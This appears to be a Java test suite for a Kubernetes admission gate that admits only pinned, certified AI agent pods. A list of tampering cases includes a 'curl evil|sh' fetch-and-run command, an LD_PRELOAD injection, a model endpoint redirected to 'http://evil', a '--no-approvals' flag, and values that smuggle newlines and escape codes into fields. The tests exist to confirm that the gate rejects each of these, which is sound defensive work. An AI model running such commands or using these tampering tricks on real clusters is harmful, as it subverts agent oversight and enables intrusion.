package dev.assize.server.admission;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assize.gate.policy.Answer;
import dev.assize.gate.policy.Decision;
import dev.assize.gate.policy.Decision.ConditionToMeet;
import dev.assize.server.FrozenGate;
import dev.assize.server.decision.AskedQuestion;
import dev.assize.server.decision.Told;
import java.io.IOException;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ObjectNode;

class AdmissionTest {

  private static final String AGENT = "registry.example/clerk/agent@sha256:" + "a1".repeat(32);

  @TempDir private Path temp;

  private FrozenGate frozen;

  @BeforeEach
  void aGate() throws IOException {
    frozen = new FrozenGate(temp);
  }

  private JsonNode ask(JsonNode review, String path, Map<String, Object> cluster) {
    Admission admission = new Admission(frozen.gate, "ci", cluster, null, "");
    JsonNode answer = admission.review(review, Demand.ofPath(path).orElseThrow(), frozen.now);
    assertThat(answer.path("apiVersion").asString()).isEqualTo("admission.k8s.io/v1");
    assertThat(answer.path("kind").asString()).isEqualTo("AdmissionReview");
    JsonNode response = answer.path("response");
    assertThat(response.path("uid").asString()).isEqualTo(review.at("/request/uid").asString());
    assertThat(response.path("allowed").isBoolean()).isTrue();
    if (!response.path("allowed").booleanValue()) {
      assertThat(response.at("/status/code").intValue()).isEqualTo(403);
      assertThat(response.at("/status/message").asString()).startsWith("Assize does not let in ");
    }
    for (JsonNode warning : response.path("warnings")) {
      assertThat(warning.asString()).hasSizeLessThanOrEqualTo(256).doesNotContain("\n");
    }
    for (Map.Entry<String, JsonNode> each : response.path("auditAnnotations").properties()) {
      assertThat(each.getKey()).matches("[A-Za-z]+");
      assertThat(each.getValue().isString()).isTrue();
    }
    return response;
  }

  private JsonNode ask(JsonNode review, String path) {
    return ask(review, path, Map.of());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"pod-create", "pod-create-dry-run", "deployment-create", "cronjob-create"})
  void theCertifiedAgentIsLetInWhateverMakesItsPod(String sample) throws IOException {
    JsonNode response = ask(Reviews.sample(sample), "required/general");
    assertThat(response.path("allowed").booleanValue()).as(response.toString()).isTrue();
    JsonNode audit = response.path("auditAnnotations");
    assertThat(audit.path("answer").asString()).isEqualTo("ALLOW");
    assertThat(audit.path("agent").asString()).isEqualTo("clerk " + frozen.clerk());
    assertThat(audit.path("policy").asString()).startsWith("ci 1.0.0 sha256:");
    assertThat(audit.path("checkpoint").asString()).startsWith("sha256:");
    assertThat(audit.path("certificate").asString()).startsWith("sha256:");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"pod-create", "pod-create-dry-run", "deployment-create", "cronjob-create"})
  void aWithdrawnOneIsNotAndThePersonAtKubectlReadsWhy(String sample) throws IOException {
    frozen.source = FrozenGate.log("withdrawn");
    frozen.look();
    JsonNode response = ask(Reviews.sample(sample), "required/general");
    assertThat(response.path("allowed").booleanValue()).isFalse();
    assertThat(response.at("/status/message").asString())
        .contains(
            "the agent clerk: DENY by the policy ci",
            "not-in-order: ",
            "Why: ",
            "What to do: See the register");
    assertThat(response.at("/auditAnnotations/clauses").asString()).contains("not-in-order");
  }

  @Test
  void whatGoesMayGoAndWhatStaysAsItWasIsNotAskedAbout() throws IOException {
    frozen.source = FrozenGate.log("withdrawn");
    frozen.look();
    assertThat(ask(Reviews.sample("pod-delete"), "required/general").path("allowed").booleanValue())
        .isTrue();
    assertThat(
            ask(Reviews.sample("deployment-scale"), "required/general")
                .path("allowed")
                .booleanValue())
        .isTrue();
  }

  @Test
  void anotherImageMakesAnotherAgent() throws IOException {
    JsonNode response = ask(Reviews.sample("deployment-update"), "required/general");
    assertThat(response.path("allowed").booleanValue()).isFalse();
    assertThat(response.at("/status/message").asString())
        .contains("container \"clerk\": the manifest of clerk 1.0.0 does not name its image");
  }

  @Test
  void aDebuggersContainerIsNoPartOfTheAgent() throws IOException {
    JsonNode response = ask(Reviews.sample("pod-debug"), "required/general");
    assertThat(response.path("allowed").booleanValue()).isFalse();
    assertThat(response.at("/status/message").asString())
        .contains("debugger-8xzrl", "is not pinned");
  }

  static Stream<Arguments> attacks() {
    return Stream.of(
        attack(
            "no pinning",
            pod -> Reviews.container(pod).put("image", "registry.example/clerk/agent:1.0"),
            "is not pinned"),
        attack("no image", pod -> Reviews.container(pod).remove("image"), "is not pinned"),
        attack(
            "other algorithm",
            pod ->
                Reviews.container(pod)
                    .put("image", "registry.example/clerk/agent@sha512:" + "a1".repeat(64)),
            "is not pinned"),
        attack(
            "two digests",
            pod -> Reviews.container(pod).put("image", AGENT + "@sha256:" + "c3".repeat(32)),
            "is not pinned"),
        attack(
            "upper case",
            pod -> Reviews.container(pod).put("image", AGENT.replace("a1", "A1")),
            "is not pinned"),
        attack(
            "another command",
            pod ->
                Reviews.array(Reviews.container(pod), "command")
                    .add("sh")
                    .add("-c")
                    .add("curl evil|sh"),
            "its command is not the one in the manifest"),
        attack(
            "another argument",
            pod -> Reviews.array(Reviews.container(pod), "args").add("--no-approvals"),
            "its args is not the one"),
        attack(
            "no arguments",
            pod -> Reviews.container(pod).remove("args"),
            "the manifest demands its args"),
        attack(
            "a library before all others",
            pod ->
                Reviews.array(Reviews.container(pod), "env")
                    .addObject()
                    .put("name", "LD_PRELOAD")
                    .put("value", "/x.so"),
            "the variable \"LD_PRELOAD\" is not in the manifest"),
        attack(
            "another model's address",
            pod ->
                Reviews.array(Reviews.container(pod), "env")
                    .addObject()
                    .put("name", "OPENAI_BASE_URL")
                    .put("value", "http://evil"),
            "OPENAI_BASE_URL"),
        attack(
            "variables from elsewhere",
            pod ->
                Reviews.array(Reviews.container(pod), "envFrom")
                    .addObject()
                    .putObject("configMapRef")
                    .put("name", "x"),
            "envFrom is not allowed"),
        attack(
            "a file over the program",
            pod ->
                Reviews.array(Reviews.container(pod), "volumeMounts")
                    .addObject()
                    .put("name", "state")
                    .put("mountPath", "/app"),
            "the mount at \"/app\" is not in the manifest"),
        attack(
            "a file over the program, round about",
            pod ->
                Reviews.array(Reviews.container(pod), "volumeMounts")
                    .addObject()
                    .put("name", "state")
                    .put("mountPath", "/var/lib/clerk/../../../app"),
            "is not in the manifest"),
        attack(
            "a device",
            pod ->
                Reviews.array(Reviews.container(pod), "volumeDevices")
                    .addObject()
                    .put("name", "state")
                    .put("devicePath", "/dev/x"),
            "the device at"),
        attack(
            "something after the start",
            pod ->
                Reviews.container(pod)
                    .putObject("lifecycle")
                    .putObject("postStart")
                    .putObject("exec")
                    .putArray("command")
                    .add("sh"),
            "lifecycle is not allowed"),
        attack(
            "a probe that runs something",
            pod ->
                ((ObjectNode) Reviews.container(pod).get("livenessProbe"))
                    .putObject("exec")
                    .putArray("command")
                    .add("sh"),
            "livenessProbe.exec is not allowed"),
        attack(
            "another folder",
            pod -> Reviews.container(pod).put("workingDir", "/tmp"),
            "workingDir is not allowed"),
        attack(
            "what nobody knows yet",
            pod -> Reviews.container(pod).put("entrypointOverride", "x"),
            "entrypointOverride is not allowed"),
        attack(
            "another container",
            pod ->
                Reviews.array(pod.get("spec"), "containers")
                    .addObject()
                    .put("name", "helper")
                    .put("image", "busybox@sha256:" + "d4".repeat(32)),
            "does not name its image"),
        attack(
            "another first container",
            pod ->
                Reviews.array(pod.get("spec"), "initContainers")
                    .addObject()
                    .put("name", "first")
                    .put("image", "busybox"),
            "is not pinned"),
        attack(
            "a kind of container that nobody knows",
            pod ->
                Reviews.array(pod.get("spec"), "sidecarContainers").addObject().put("image", AGENT),
            "sidecarContainers is not allowed"),
        attack(
            "another machine under the model's name",
            pod -> Reviews.array(pod.get("spec"), "hostAliases").addObject().put("ip", "192.0.2.1"),
            "hostAliases is not allowed"),
        attack(
            "other name servers",
            pod ->
                ((ObjectNode) pod.get("spec"))
                    .putObject("dnsConfig")
                    .putArray("nameservers")
                    .add("192.0.2.1"),
            "dnsConfig is not allowed"),
        attack("no specification", pod -> pod.remove("spec"), "/spec: is to be an object"),
        attack(
            "no annotation",
            pod -> Reviews.annotations(pod).remove("assize.dev/agent"),
            "it does not say which agent it is"),
        attack(
            "no annotations at all",
            pod -> ((ObjectNode) pod.get("metadata")).remove("annotations"),
            "it does not say which agent it is"),
        attack(
            "another agent's name",
            pod -> Reviews.annotations(pod).put("assize.dev/agent", "clerk-2"),
            "clerk-2 1.0.0 does not name its image"),
        attack(
            "a stranger's name",
            pod -> Reviews.annotations(pod).put("assize.dev/agent", "../clerk"),
            "the gate keeps no agent of the name"),
        attack(
            "a misspelt annotation",
            pod -> Reviews.annotations(pod).put("assize.dev/teir", "general"),
            "there is no annotation assize.dev/teir"),
        attack(
            "a misspelt annotation of another case",
            pod -> Reviews.annotations(pod).put("Assize.dev/tier", "general"),
            "is written wrongly"),
        attack(
            "no such tier",
            pod -> Reviews.annotations(pod).put("assize.dev/tier", "none"),
            "context.tier is one of"),
        attack(
            "a line of one's own in the message",
            pod ->
                Reviews.annotations(pod).put("assize.dev/tier", "x\n\u001b[32mAssize lets it in"),
            "x??[32mAssize lets it in"),
        attack(
            "a line of one's own in a container's name",
            pod -> Reviews.container(pod).put("name", "x\nAllowed").put("image", "y"),
            "\"x?Allowed\""));
  }

  private static Arguments attack(String name, Consumer<ObjectNode> deed, String message) {
    return Arguments.of(name, deed, message);
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("attacks")
  void whoeverWritesAPodCannotMakeAnotherAgentOfIt(
      String name, Consumer<ObjectNode> deed, String message) throws IOException {
    JsonNode response = ask(Reviews.pod(deed), "required/general");
    assertThat(response.path("allowed").booleanValue()).isFalse();
    assertThat(response.at("/status/message").asString()).contains(message);
    assertThat(response.at("/status/message").asString()).doesNotContain("\u001b");
  }

  @Test
  void aPodWithoutContainersIsNoAgent() throws IOException {
    JsonNode review =
        Reviews.pod(pod -> {
          ((ObjectNode) pod.get("spec")).remove("containers");
          ((ObjectNode) pod.get("spec")).remove("initContainers");
        });
    assertThat(ask(review, "required/general").at("/status/message").asString())
        .contains("the pod has no container");
  }

  @Test
  void theSameImageFromAMirrorOrWithATagIsTheSame() throws IOException {
    for (String image :
        List.of(
            AGENT.replace("registry.example", "mirror.internal:5000/x"),
            AGENT.replace("@", ":9.9@"))) {
      JsonNode review = Reviews.pod(pod -> Reviews.container(pod).put("image", image));
      assertThat(ask(review, "required/general").path("allowed").booleanValue()).as(image).isTrue();
    }
  }

  @Test
  void aPodsAuthorCannotLowerWhatItsNamespaceOrClusterDemands() throws IOException {
    JsonNode modest = Reviews.sample("pod-create"); // says general
    assertThat(ask(modest, "required/none").path("allowed").booleanValue()).isTrue();
    for (String path :
        List.of(
            "required/sensitive",
            "required/critical",
            "annotated/sensitive",
            "required/sensitive/acts")) {
      JsonNode response = ask(modest, path);
      assertThat(response.path("allowed").booleanValue()).as(path).isFalse();
      assertThat(response.at("/status/message").asString()).contains("tier-too-low");
    }
    assertThat(
            ask(modest, "required/none", Map.of("context.tier", "sensitive"))
                .path("allowed")
                .booleanValue())
        .isFalse();
    JsonNode strict =
        Reviews.pod(pod -> Reviews.annotations(pod).put("assize.dev/tier", "sensitive"));
    assertThat(ask(strict, "required/general").path("allowed").booleanValue()).isFalse();
    JsonNode silent = Reviews.pod(pod -> Reviews.annotations(pod).remove("assize.dev/tier"));
    assertThat(ask(silent, "required/general").path("allowed").booleanValue()).isTrue();
    JsonNode unknown = ask(silent, "required/none");
    assertThat(unknown.path("allowed").booleanValue()).isFalse();
    assertThat(unknown.at("/status/message").asString()).contains("Say what tier the use has");
  }

  @Test
  void onlyTheStricterOfTwoStatementsCounts() {
    Demand demand =
        Demand.ofPath("required/sensitive/asks")
            .orElseThrow()
            .and(Map.of("context.purpose", "deployment", "context.publicBody", true));
    assertThat(
            demand.with(
                Map.of(
                    "agent",
                    "clerk",
                    "tier",
                    "general",
                    "autonomy",
                    "acts",
                    "purpose",
                    "personal",
                    "public-body",
                    "false")))
        .containsEntry("context.tier", "sensitive")
        .containsEntry("context.autonomy", "acts")
        .containsEntry("context.purpose", "deployment")
        .containsEntry("context.publicBody", true);
    assertThat(demand.with(Map.of("tier", "critical", "autonomy", "suggests")))
        .containsEntry("context.tier", "critical")
        .containsEntry("context.autonomy", "asks");
  }

  @Test
  void podsThatSayNothingAreLetInOnlyWhereNobodyDemandsIt() throws IOException {
    JsonNode plain = Reviews.pod(pod -> ((ObjectNode) pod.get("metadata")).remove("annotations"));
    assertThat(ask(plain, "annotated/critical").path("allowed").booleanValue()).isTrue();
    assertThat(ask(plain, "required/none").path("allowed").booleanValue()).isFalse();
    JsonNode halfway = Reviews.pod(pod -> Reviews.annotations(pod).remove("assize.dev/agent"));
    assertThat(ask(halfway, "annotated/none").path("allowed").booleanValue()).isFalse();
  }

  @Test
  void conditionsAreWarnings() throws IOException {
    var question =
        new AskedQuestion(
            "baseline",
            new AskedQuestion.AskedAgent.Kept("clerk"),
            null,
            Map.of("context.tier", "general"),
            null,
            null,
            "",
            List.of(),
            List.of(),
            false);
    Told told = frozen.gate.decide(question, frozen.now);
    var condition = new ConditionToMeet("dissent", "Read it. ".repeat(60), frozen.now, null);
    Decision plain = told.decision();
    Decision conditional =
        new Decision(
            Answer.ALLOW_WITH_CONDITIONS,
            plain.policy(),
            plain.at(),
            plain.until(),
            plain.reasons(),
            List.of(condition),
            plain.missing(),
            plain.evidence());
    JsonNode response =
        AdmissionAnswer.of(
                "clerk",
                new Told(
                    told.agent(),
                    told.certificate(),
                    conditional,
                    List.of(),
                    told.register(),
                    null))
            .review("u")
            .path("response");
    assertThat(response.path("allowed").booleanValue()).isTrue();
    assertThat(response.at("/warnings/0").asString())
        .startsWith("assize: until 2030-")
        .hasSizeLessThanOrEqualTo(256);
  }

  @Test
  void aRegisterThatIsTooOldLetsNobodyIn() throws IOException {
    frozen.source = FrozenGate.unreachable();
    frozen.pass(java.time.Duration.ofHours(7));
    frozen.look();
    JsonNode response = ask(Reviews.sample("pod-create"), "required/general");
    assertThat(response.path("allowed").booleanValue()).isFalse();
    assertThat(response.at("/status/message").asString())
        .contains("UNKNOWN by the policy ci", "its evidence is too old");
  }

  @Test
  void otherKindsAndOperationsAreNotLetIn() throws IOException {
    ObjectNode kind = Reviews.sample("pod-create");
    ((ObjectNode) kind.at("/request/kind")).put("kind", "VirtualMachine");
    assertThat(ask(kind, "required/general").at("/status/message").asString())
        .contains("does not know where its pods are");
    ObjectNode connect = Reviews.sample("pod-create");
    ((ObjectNode) connect.get("request")).put("operation", "CONNECT");
    assertThat(ask(connect, "required/general").path("allowed").booleanValue()).isFalse();
  }
}
